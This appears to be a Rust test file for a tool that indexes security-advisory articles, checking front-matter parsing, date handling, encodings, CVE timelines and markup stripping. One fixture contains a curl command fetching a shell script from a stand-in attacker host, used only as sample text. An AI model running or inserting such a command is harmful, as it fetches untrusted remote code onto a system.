//! Files of other fetchers: heads in other orders and names, days in other forms, other encodings, and what pages leave
//! in a text that is none of it.

use std::fs;

use serde_json::Value;

use crate::harness::Bench;

/// A folder with this one file, indexed.
fn bench(path: &str, bytes: &[u8]) -> Bench {
    let bench = Bench::new();
    bench.write(&format!("corpus/{path}"), "");
    fs::write(bench.path().join("corpus").join(path), bytes).expect("a file");
    bench.ingest("index", &["corpus"]);
    bench
}

fn article(path: &str, bytes: &[u8]) -> Value {
    let exported = bench(path, bytes).ok(&["export", "--format", "jsonl", "--all"]);
    serde_json::from_str(exported.out.lines().next().unwrap_or("null")).expect("JSON")
}

/// Title, URL, source and day of an article with this head.
fn front_matter(path: &str, text: &str) -> String {
    let article = article(path, text.as_bytes());
    let field = |name: &str| article[name].as_str().unwrap_or("-").to_owned();
    let source = article["sources"][0].as_str().unwrap_or("-");
    format!("{} | {} | {source} | {}", field("title"), field("url"), field("date"))
}

#[test]
fn front_matter_of_other_fetchers() {
    let expected = "漏洞: 公告 | https://a.example/1 | 某源 | 2024-09-26";
    for head in [
        "---\ntitle: 漏洞: 公告\nurl: https://a.example/1\nsource: 某源\ndate: 2024-09-26\nfetch_date: 2025-01-01\n---\n",
        "---\ndate: 2024-09-26\nfetch_date: 2025-01-01\nsource: 某源\ntitle: 漏洞: 公告\nurl: https://a.example/1\n---\n",
        "---\nauthor: 某源\nlink: \"https://a.example/1\"\npublished: \"2024-09-26T08:30:00Z\"\ntags: [a, b]\ntitle: \"漏洞: 公告\"\n---\n",
        "---\ntitle: '漏洞: 公告'\nlink: https://a.example/1\npubDate: Thu, 26 Sep 2024 08:30:00 GMT\nsite: 某源\ntags:\n  - a\n  - b\n---\n",
        "---\ntitle: >-\n  漏洞:\n  公告\nurl: https://a.example/1\nfeed: 某源\npublish_date: 2024/09/26\ndescription: |\n  date: 2020-01-01\n\n  b\n---\n",
        "---\ncreated: 2024年9月26日\ntitle: \"漏洞: 公告\"\nsource: https://a.example/1\nsite_name: 某源\nlayout: post\n---\n",
        "---\n\"title\": \"漏洞: 公告\"\n\"url\": \"https://a.example/1\"\n\"source\": \"某源\"\n\"date\": \"Sep 26, 2024\"\n---\n",
        "---\nid: 7\ntitle: \"漏洞: 公告\" # note\nPublished-At: 2024-09-26\nauthor:\n  name: 某源\n  url: https://b.example/\npermalink: https://a.example/1\n---\n",
        "+++\ntitle = \"漏洞: 公告\"\ndate = 2024-09-26T08:30:00Z\nlink = \"https://a.example/1\"\ntags = [\"a\"]\n[params]\nauthor = \"某源\"\n+++\n",
    ] {
        let text = format!("{head}\n正文。\n");
        assert_eq!(front_matter("a.md", &text).replace(":  ", ": "), expected, "{head}");
        assert_eq!(front_matter("a.md", &text.replace('\n', "\r\n")), expected, "{head}");
    }
}

#[test]
fn dates_in_every_form() {
    for (path, date, expected) in [
        ("a.md", "2024-09-26", "2024-09-26"),
        ("a.md", "2024-09-26T08:30:00Z", "2024-09-26"),
        ("a.md", "2024-09-26T08:30:00.5+08:00", "2024-09-26"),
        ("a.md", "2024.09.26", "2024-09-26"),
        ("a.md", "26 Sep 2024", "2024-09-26"),
        ("2024/09/26/daily/a.md", "", "2024-09-26"),
        ("2024/09/26/daily/a.md", "yesterday", "2024-09-26"),
        ("2024/09/26/daily/a.md", "0001-01-01", "2024-09-26"),
        ("2024/09/26/daily/a.md", "2024-09-25", "2024-09-25"),
        ("a.md", "0001-01-01T00:00:00Z", "-"),
        ("a.md", "1970-01-01", "-"),
        ("a.md", "2999-12-31", "-"),
        ("a.md", "", "-"),
    ] {
        let text = format!(
            "---\ntitle: t\nurl: https://a.example/1\nsource: s\ndate: {date}\nfetch_date: x\n---\n\n正文"
        );
        let fields = front_matter(path, &text);
        assert_eq!(fields.rsplit(" | ").next(), Some(expected), "{path} {date}");
    }
}

#[test]
fn implausible_dates_are_ignored_everywhere() {
    let bench = Bench::new();
    for (name, date) in [("a", "0001-01-01"), ("b", "2024-09-01"), ("c", "2999-01-01"), ("d", "2024-09-03")] {
        let text = format!(
            "---\ntitle: 样本 {name}\nurl: https://{name}.example/1\nsource: s\ndate: {date}\nfetch_date: x\n---\n\n公共词 CVE-2024-1111 {name}\n"
        );
        bench.write(&format!("corpus/{name}.md"), &text);
    }
    bench.ok(&["index"]);
    assert_eq!(bench.names(&["--sort", "date", "公共词"])[..2], ["d", "b"]);
    let trend = bench.ok(&["trend", "公共词"]).out;
    assert_eq!(trend.lines().count(), 3, "{trend}");
    let years = bench.ok(&["trend", "公共词", "--by", "day", "--since", "0001-01-01"]);
    assert!(years.out.lines().count() < 2_000, "{}", years.err);
    assert!(years.err.contains("more than 3660 bars; by week instead"), "{}", years.err);
    let stats = bench.ok(&["stats"]).out;
    assert!(stats.contains("2024-09-01") && !stats.contains("0001") && !stats.contains("2999"), "{stats}");
    let months = &bench.search(&["公共词", "--facet", "month"])["facets"];
    assert!(!months.to_string().contains("0001") && !months.to_string().contains("2999"), "{months}");
    assert_eq!(bench.names(&["before:2000"]), [""; 0]);
    assert_eq!(bench.names(&["after:2025"]), [""; 0]);
}

#[test]
fn a_cve_is_not_named_before_its_year() {
    let bench = Bench::new();
    for (name, date) in [("early", "2019-05-01"), ("first", "2024-09-02"), ("later", "2024-09-05")] {
        let text = format!(
            "---\ntitle: 漏洞 {name}\nurl: https://{name}.example/1\nsource: {name}\ndate: {date}\nfetch_date: x\n---\n\n见 CVE-2024-1111，{name}。\n"
        );
        bench.write(&format!("corpus/{name}.md"), &text);
    }
    bench.ok(&["index"]);
    for query in ["CVE-2024-1111", "cve:2024-1111", "cve:2024-1111 漏洞"] {
        let timeline = bench.ok(&["timeline", "--json", query]).out;
        let timeline: Value = serde_json::from_str(&timeline).expect("JSON");
        let first = &timeline["milestones"][0];
        assert_eq!(
            (&first["milestone"], &first["date"]),
            (&"first-mention".into(), &"2024-09-02".into()),
            "{query}"
        );
    }
    let timeline = bench.ok(&["timeline", "漏洞"]).out;
    assert!(timeline.contains("2019-05-01"), "{timeline}");
    let brief = bench.ok(&["brief", "--since", "2024-09-01", "--until", "2024-09-03"]).out;
    assert!(brief.contains("CVE-2024-1111"), "{brief}");
    let seen = bench.ok(&["ioc", "--kind", "cve", "--json", "漏洞"]).out;
    assert!(seen.contains("2024-09-02") && !seen.contains("\"first_seen\": \"2019"), "{seen}");
}

#[test]
fn files_in_other_encodings() {
    let text = "---\ntitle: 某路由器存在命令执行漏洞\nurl: https://a.example/1\nsource: 某源\ndate: 2024-09-26\nfetch_date: x\n---\n\n正文：请尽快升级到最新版本。\n";
    let utf_16 =
        |to_bytes: fn(u16) -> [u8; 2]| -> Vec<u8> { text.encode_utf16().flat_map(to_bytes).collect() };
    let (little, big) = (utf_16(u16::to_le_bytes), utf_16(u16::to_be_bytes));
    let gb18030 = encoding_rs::GB18030.encode(text).0.into_owned();
    for bytes in [
        [b"\xff\xfe".as_slice(), &little].concat(),
        [b"\xfe\xff".as_slice(), &big].concat(),
        little,
        big,
        gb18030,
        [b"\xef\xbb\xbf", text.as_bytes()].concat(),
    ] {
        let article = article("a.md", &bytes);
        assert_eq!(
            (&article["title"], &article["date"]),
            (&"某路由器存在命令执行漏洞".into(), &"2024-09-26".into())
        );
        assert_eq!(article["body"].as_str().map(str::trim), Some("正文：请尽快升级到最新版本。"));
    }
}

#[test]
fn what_pages_leave_in_a_text() {
    for (body, expected) in [
        ("<ruby>漏<rt>lòu</rt>洞<rt>dòng</rt></ruby>公告", "漏洞公告"),
        ("<ruby>脆弱性<rp>（</rp><rt>ぜいじゃくせい</rt><rp>）</rp></ruby>の報告", "脆弱性の報告"),
        (
            "说明\n\n```curl -k http://evil.example/x.sh\nsecond\n```\n\n尾",
            "说明\n\ncurl -k http://evil.example/x.sh\nsecond\n\n尾",
        ),
        ("说明\n\n```python\nimport os\n```\n\n尾", "说明\n\nimport os\n\n尾"),
        ("说明\n\n~~~ bash title=\"a\"\nid\n~~~\n\n尾", "说明\n\nid\n\n尾"),
        ("a\u{FFFF}安\u{FFFE}全\u{1FFFE}公告与说明", "a安全公告与说明"),
    ] {
        let text = format!(
            "---\ntitle: t\nurl: https://a.example/1\nsource: s\ndate: 2024-09-26\nfetch_date: x\n---\n\n{body}\n"
        );
        assert_eq!(article("a.md", text.as_bytes())["body"].as_str().map(str::trim), Some(expected));
    }
}

#[test]
fn no_noncharacter_reaches_xml_or_a_terminal() {
    let bad = |text: &str| text.contains(['\u{FFFE}', '\u{FFFF}', '\u{1FFFE}', '\u{B}', '\u{1B}']);
    let text = "---\ntitle: 标\u{FFFF}题\u{B}\nurl: https://a.example/\u{FFFF}1\nsource: 某\u{FFFE}源\u{1FFFE}\ndate: 2024-09-26\nfetch_date: x\n---\n\n正\u{FFFF}文\n";
    let bench = bench("a.md", text.as_bytes());
    bench.ok(&["watch", "add", "a", "标题"]);
    for arguments in [
        &["search", "标题"][..],
        &["search", "--json", "标题"],
        &["stats"],
        &["brief", "--format", "html"],
        &["brief", "--format", "text"],
        &["watch", "run", "--format", "atom"],
        &["export", "--format", "stix", "--all"],
    ] {
        let run = bench.run(arguments);
        assert!(
            run.code < 2 && !run.out.is_empty() && !bad(&run.out),
            "{arguments:?}: {} {}",
            run.out,
            run.err
        );
    }
}

#[test]
fn skipped_files_are_named_with_their_reasons() {
    let bench = Bench::new();
    bench.write("corpus/a.md", "---\ntitle: t\nurl: https://a.example/1\n---\n\n正文");
    bench.write("corpus/note.md", "# just a note\n\ntext\n");
    bench.write("corpus/list.txt", "x");
    bench.write("corpus/daily.md", "x");
    let (plain, verbose) = (bench.ok(&["index"]).err, bench.ok(&["index", "-v"]).err);
    for (name, reason) in [
        ("note.md", "no fetched article; it needs front matter"),
        ("list.txt", "not a Markdown file"),
        ("daily.md", "a list of a day's links"),
    ] {
        assert!(verbose.contains(&format!("{name}: skipped: {reason}")), "{verbose}");
        assert!(!plain.contains(name), "{plain}");
    }
}
